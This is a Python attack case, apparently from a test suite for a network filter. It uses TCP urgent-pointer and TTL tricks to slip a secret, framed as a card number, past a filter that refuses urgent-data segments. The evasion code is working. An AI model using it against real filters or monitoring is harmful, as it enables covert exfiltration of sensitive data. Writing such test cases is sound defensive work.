"""An urgent pointer that arrives on an acknowledgement, without payload.

The receiver takes the byte that the pointer names out of the stream, whichever segment brings it.
Segments that bring urgent data are refused; here the pointer comes alone, while the data waits for
the window, and a later urgent byte takes the flag off the segment with the first one.
"""

from __future__ import annotations

import socket
import time

from attacks.connection import drained, give_up
from attacks.target import Target, refused

WINDOW = 14  # small segments that fill the initial congestion window, and some


def main(target: Target) -> None:
    """Fill the window with what dies on the way, mark a byte, mark one far behind it."""
    value, half = target.secret, len(target.secret) // 2
    made = target.tcp()
    made.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
    try:
        with refused():
            made.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, 1)
            for _ in range(WINDOW):
                made.send(b"hello\n")
            made.send(b"order 17, card " + value[:half])
            made.send(b"x", socket.MSG_OOB)
            made.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, 64)
            # An acknowledgement with the pointer: the window is asked anew, a keepalive is sent.
            made.setsockopt(socket.SOL_SOCKET, socket.SO_KEEPALIVE, 1)
            made.setsockopt(socket.IPPROTO_TCP, socket.TCP_QUICKACK, 1)
            made.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 16)
            time.sleep(0.01)
            made.send(value[half:] + b", thanks\n" + b"." * 140_000)
            made.send(b"y", socket.MSG_OOB)
        drained(made, 3)
    finally:
        give_up(made)
